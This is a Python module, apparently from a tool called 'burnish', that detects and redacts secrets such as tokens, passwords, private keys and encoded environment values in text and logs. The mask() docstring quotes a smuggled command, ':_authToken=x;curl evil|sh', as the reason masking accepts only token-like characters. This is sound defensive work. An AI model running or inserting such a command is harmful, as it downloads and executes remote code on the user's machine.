"""Finds and redacts secrets in a text. Pure: the values of the environment are passed in."""

from __future__ import annotations

import base64
import json
import re
from bisect import bisect_left
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

from burnish.core.escape_codes import (
    MARKUP,
    READINGS,
    PlainText,
    plain_texts,
    with_ascii_unescaped,
    without_markup,
    without_short_escapes,
)
from burnish.core.secret_shapes import KEY_BEGIN, KEY_END, KEY_LINE, SHAPES, assignments, possible_shapes

# A person's word on a line that it holds no secret.
ALLOWED = re.compile(r"burnish: ?allow-secret|pragma: ?(?:allow|white)list (?:nextline )?secret", re.I)
ASSIGNED = "password or token"
_OF_ENV = "value of "

_NAME = re.compile(
    r"(?:^|_)(?:KEYS?|TOKENS?|SECRETS?|PASS|PASSWORD|PASSWD|PASSPHRASE|CREDENTIALS?|CREDS|AUTH|COOKIE|PAT|DSN)(?:_|\d|$)"
    r"|_PWD$|APIKEY|PASSWORD|SECRET|TOKEN$",
    re.I,
)
_NO_NAME = re.compile(r"_(?:FILE|PATH|DIR|SOCK|NAME|USER|USERNAME|HOST|PORT|TTL|TIMEOUT|ALGORITHM|FORMAT|TYPE)$", re.I)
_NO_VALUE = re.compile(
    r"[a-z]{1,11}|[A-Z]{1,11}|[A-Z][a-z]{1,10}|[\d.,:+-]+|(?i:development|production|authenticated|unauthenticated)"
    r"|(?:/|~|\./|\.\./|file:|ssh-|\$).*",
    re.S,
)


_READABLE = re.compile(r"[ -~]{16,}")


@dataclass(frozen=True, slots=True)
class Leak:
    """A secret in a text, by line and kind; never its value."""

    line: int
    kind: str


@dataclass(frozen=True, slots=True)
class Secrets:
    """The secrets to redact: known values, and everything with the format of a secret."""

    kinds: Mapping[str, str] = field(default_factory=dict)  # value → kind
    _values: re.Pattern[str] | None = field(default=None, repr=False, compare=False)

    @classmethod
    def of(cls, environment: Mapping[str, str]) -> Secrets:
        """The values of variables with a secret name."""
        kinds: dict[str, str] = {}
        for name, value in environment.items():
            for secret in _values_of(name, value.strip()):
                for dress in _dresses(secret):
                    kinds.setdefault(dress, f"{_OF_ENV}{name}")
        longest_first = sorted(kinds, key=len, reverse=True)
        return cls(kinds, re.compile("|".join(map(re.escape, longest_first))) if kinds else None)

    def redact(self, text: str) -> str:
        """The text with each secret replaced by a marker. Idempotent."""
        if self._values:
            text = self._values.sub(lambda hit: mark(self.kinds[hit[0]]), text)
        # first: of a secret without a fixed length, the part before a colour code may look like a whole one
        text = self._redact_split(text)
        for shape in possible_shapes(text):
            text = shape.sub(text, lambda hit, kind=shape.kind: _without(hit, kind))  # type: ignore[misc]
        return _replace(text, ((start, end, mark(ASSIGNED)) for start, end in assignments(text)))

    def _redact_split(self, text: str) -> str:
        """Secrets that markup or colour codes cut into pieces, as `grep --color` does. What cuts them stays."""
        if (rendered_text := without_markup(text)) is not None:
            cuts = [
                (start, end, kind, MARKUP.findall(text, start, end))
                for start, end, kind in self._escaped_spans(rendered_text)
            ]
            text = _replace(text, ((start, end, mark(kind) + _tags(marks)) for start, end, kind, marks in cuts))
        for reading in READINGS:
            plain = reading(text)
            if plain is None:
                continue
            hits = sorted(self._hits(plain.text, plain.edges))
            text = _replace(text, _marked(plain, ((*plain.span(start, end), kind) for start, end, kind in hits)))
        return self._redact_escaped(text)

    def _redact_escaped(self, text: str) -> str:
        """Secrets that `\\b`, `\\r` or `\\n` cut into pieces in JSON, or with some signs as `%2F` or `\\u002f`."""
        for reading in (without_short_escapes, with_ascii_unescaped):
            if (plain := reading(text)) is not None:
                text = _replace(text, _marked(plain, self._escaped_spans(plain)))
        return text

    def _escaped_spans(self, plain: PlainText) -> list[tuple[int, int, str]]:
        """Known values and shapes only: `password:\\nnext line` assigns nothing."""
        hits = ((start, end, kind) for start, end, kind in self._hits(plain.text, plain.edges) if kind != ASSIGNED)
        return sorted((*plain.span(start, end), kind) for start, end, kind in hits)

    def spans(self, text: str) -> list[tuple[int, int, str]]:
        """Start, end and kind of every secret, in the order of the text."""
        found = list(self._hits(text))
        places = _Places(found)
        for plain in plain_texts(text):
            for start, end, kind in sorted(self._hits(plain.text, plain.edges)):
                begin, stop = plain.span(start, end)
                if places.add(begin, stop):
                    found.append((begin, stop, kind))
        for reading in (without_markup, without_short_escapes, with_ascii_unescaped):
            plain_text = reading(text)
            for begin, stop, kind in self._escaped_spans(plain_text) if plain_text else ():
                if places.add(begin, stop):
                    found.append((begin, stop, kind))
        return sorted(found)

    def find(self, text: str) -> list[Leak]:
        """Every secret with its line, in the order of the lines."""
        return _ordered(text, ((start, kind) for start, _, kind in self.spans(text)))

    def find_new(self, text: str, *, old: str = "") -> list[Leak]:
        """Secrets that are neither in `old` nor allowed by a comment. A value of the environment is never allowed."""
        lines = text.split("\n")
        spans = self.spans(text)
        known_values = {value for value in {text[start:end] for start, end, _ in spans} if value in old}
        fresh = [(start, kind) for start, end, kind in spans if text[start:end] not in known_values]
        leaks = zip(fresh, _lines_at(text, [at for at, _ in fresh]), strict=True)
        return _ordered(
            text,
            (hit for hit, line in leaks if hit[1].startswith(_OF_ENV) or not is_allowed(lines, line)),
        )

    def find_values(self, data: bytes) -> list[Leak]:
        """For binary content such as a database: known values and key patterns in its runs of readable characters."""
        text = data.decode("latin-1")
        kinds = {self.kinds[hit] for hit in self._values.findall(text)} if self._values else set()
        rows = "\n".join(_READABLE.findall(text))
        kinds |= {shape.kind for shape in SHAPES if not shape.strict for _ in shape.hits(rows)}
        return [Leak(1, kind) for kind in sorted(kinds)]

    def _hits(self, text: str, edges: Sequence[int] = ()) -> Iterator[tuple[int, int, str]]:
        """Start, end and kind of secrets that do not overlap."""
        places = _Places()
        for start, end, kind in self._all_hits(text, edges):
            if places.add(start, end):
                yield start, end, kind

    def _all_hits(self, text: str, edges: Sequence[int]) -> Iterator[tuple[int, int, str]]:
        if self._values:
            yield from ((*hit.span(), self.kinds[hit[0]]) for hit in self._values.finditer(text))
        for shape in possible_shapes(text):
            yield from ((*hit.span("secret"), shape.kind) for hit in shape.hits(text, edges))
        yield from ((start, end, ASSIGNED) for start, end in assignments(text))

    def clean(self, value: Any) -> Any:
        """The value with every text inside of lists and mappings redacted."""
        if isinstance(value, str):
            return self.redact(value)
        if isinstance(value, Mapping):
            return {self.clean(key): self.clean(item) for key, item in value.items()}
        if isinstance(value, list | tuple):
            return [self.clean(item) for item in value]
        return value


def is_allowed(lines: Sequence[str], index: int) -> bool:
    """Whether a comment on this line, or a `nextline` comment above it, allows it."""
    above = lines[index - 1] if index else ""
    return bool(ALLOWED.search(lines[index]) or ("nextline" in above and ALLOWED.search(above)))


def mark(kind: str) -> str:
    return f"[secret: {kind} removed]"


def _without(hit: re.Match[str], kind: str) -> str:
    start, end = (at - hit.start() for at in hit.span("secret"))
    return hit[0][:start] + mark(kind) + hit[0][end:]


def _dresses(value: str) -> Iterator[str]:
    """The value itself, and its encodings in JSON, URLs and base64."""
    yield value
    yield (once := json.dumps(value)[1:-1])
    yield json.dumps(value, ensure_ascii=False)[1:-1]
    # JSON inside of JSON, as agents print what a tool returned
    yield json.dumps(once)[1:-1]
    yield quote(value, safe="")
    yield quote_plus(value)
    for lead in ("", " ", "  "):
        # where in its group of three a value starts decides its letters; those at the edges mix with the neighbours'
        base64_text = base64.b64encode(f"{lead}{value}".encode(errors="surrogateescape")).decode().rstrip("=")
        inner = (base64_text[4:] if lead else base64_text)[:-2]
        if len(inner) >= 16:
            yield from {inner, inner.replace("+", "-").replace("/", "_")}


def _values_of(name: str, value: str) -> Iterator[str]:
    """The secret part of a variable, if it has one."""
    if "://" in value:
        try:
            password = urlsplit(value).password or ""
        except ValueError:
            return
        if len(password) >= 8 and not _NO_VALUE.fullmatch(password):
            yield password
        return
    if not _NAME.search(name) or _NO_NAME.search(name) or len(value) < 8:
        return
    if not _NO_VALUE.fullmatch(value) and len(set(value)) >= 4:
        yield value


def _ordered(text: str, hits: Iterable[tuple[int, str]]) -> list[Leak]:
    by_place = sorted(hits)
    lines = _lines_at(text, [at for at, _ in by_place])
    leaks = {Leak(line + 1, kind) for line, (_, kind) in zip(lines, by_place, strict=True)}
    return sorted(leaks, key=lambda leak: (leak.line, leak.kind))


# -- many secrets in one text -------------------------------------------------------------------
# An agent can print a megabyte of them: the work for each must not depend on the length of the text.


class _Places:
    """Parts of a text that do not overlap."""

    def __init__(self, hits: Iterable[tuple[int, int, str]] = ()) -> None:
        spans = sorted(hits)
        self._starts = [start for start, _, _ in spans]
        self._ends = [end for _, end, _ in spans]

    def add(self, start: int, end: int) -> bool:
        """False, and nothing is added, if the part overlaps one that was added before."""
        at = bisect_left(self._starts, end)
        if at and self._ends[at - 1] > start:
            return False
        self._starts.insert(at, start)
        self._ends.insert(at, end)
        return True


def _replace(text: str, replacements: Iterable[tuple[int, int, str]]) -> str:
    """The text with each part replaced; the parts are in order and do not overlap."""
    pieces, at = [], 0
    for start, end, replacement in replacements:
        pieces += [text[at:start], replacement]
        at = end
    return "".join([*pieces, text[at:]]) if pieces else text


def _marked(plain: PlainText, spans: Iterable[tuple[int, int, str]]) -> Iterator[tuple[int, int, str]]:
    """A mark for each secret, with the codes inside of it."""
    return ((begin, stop, mark(kind) + plain.codes(begin, stop)) for begin, stop, kind in spans)


def _tags(marks: Iterable[str]) -> str:
    """The marks without backslashes, which would stand before another sign."""
    return "".join(marks).replace("\\", "")


def _lines_at(text: str, places: Sequence[int]) -> list[int]:
    """The number of line ends before each place; the places are in order."""
    lines, line, at = [], 0, 0
    for place in places:
        line += text.count("\n", at, place)
        at = place
        lines.append(line)
    return lines


# Shapes alone, for those who know no values.
NO_SECRETS = Secrets()


@dataclass(slots=True)
class LineFilter:
    """Redacts a growing text line by line, including keys that span several lines."""

    secrets: Secrets
    inside: bool = False

    def __call__(self, line: str) -> str | None:
        """The line as it may be shown; None for the lines inside of a key."""
        texts = [line, *(plain.text for plain in plain_texts(line))]
        if self.inside:
            is_end = any(KEY_END.search(text) for text in texts)
            self.inside = not is_end and any(KEY_LINE.fullmatch(text) for text in texts)
            if self.inside or is_end:
                return None
        for text in texts:
            begin = KEY_BEGIN.search(text)
            if begin and not text[begin.end() :].strip("\\nr\"', \t\r"):
                self.inside = True
                return self.secrets.redact(text[: begin.start()]) + mark("private key")
        return self.secrets.redact(line)


# bytes on either side of a cut in which a secret is looked for
NEAR_CUT = 8 * 1024
# characters before a secret that may hold the name by which it is known (`"api_key": "`)
_NAMED_BY = 100
_GAPS = (b"\n", b" ", b",", b'"', b"\t", b"'")


def last_gap(data: bytes, start: int = 0) -> int:
    """Where the last word begins: behind the last gap at or after `start`, or 0."""
    return max(data.rfind(gap, start) for gap in _GAPS) + 1


def bytes_of_cut_secret(secrets: Secrets, before: bytes, after: bytes) -> int:
    """How many bytes at the end of `before` belong to a secret that ends in `after`, with what names it."""
    left, right = (part.decode("utf-8", "surrogateescape") for part in (before[-NEAR_CUT:], after[:NEAR_CUT]))
    for start, end, _ in secrets.spans(left + right):
        if (begin := max(start - _NAMED_BY, 0)) < len(left) < end:
            return len(left[begin:].encode("utf-8", "surrogateescape"))
    return 0


def redact_behind(secrets: Secrets, before: str, line: str) -> str:
    """The line without the secrets that begin in `before`, the text before it, or are only known by it."""
    at = len(before)
    for start, end, kind in reversed(secrets.spans(before + line)):
        if end > at:
            line = line[: max(start - at, 0)] + mark(kind) + line[end - at :]
    return line


# -- masking --------------------------------------------------------------------------------------
# Secrets masked in text that a person is asked to accept: nothing else may disappear behind a mask.

# what tokens and keys are made of: no space, quote, `;`, `$` or control character, with which a command could begin
_TOKEN = re.compile(r"(?![/.~])[A-Za-z0-9_+/=.:~-]+")
_KEY_LINES = re.compile(r"-----BEGIN [A-Z0-9 ]+-----[A-Za-z0-9+/=\s]*(?:-----END [A-Z0-9 ]+-----)?")
_OF_ENVIRONMENT = "value of "


def mask(secrets: Secrets, text: str) -> str:
    """The text with each secret replaced by its kind and length. What only looks like one is shown whole.

    The author of a repository can write `:_authToken=x;curl evil|sh`, but not a value of the reader's environment.
    """
    for start, end, kind in reversed(secrets.spans(text)):
        value = text[start:end]
        if kind.startswith(_OF_ENVIRONMENT) or _is_token(value):
            text = f"{text[:start]}[secret: {kind}, {end - start} characters not shown]{text[end:]}"
    return text


def mask_all(secrets: Secrets, value: Any) -> Any:
    """Every text inside of lists and mappings."""
    if isinstance(value, str):
        return mask(secrets, value)
    if isinstance(value, Mapping):
        return {mask_all(secrets, key): mask_all(secrets, one) for key, one in value.items()}
    if isinstance(value, list | tuple):
        return [mask_all(secrets, one) for one in value]
    return value


def _is_token(value: str) -> bool:
    if "/../" in value or "//" in value:
        return False
    return bool(_TOKEN.fullmatch(value) or _KEY_LINES.fullmatch(value))
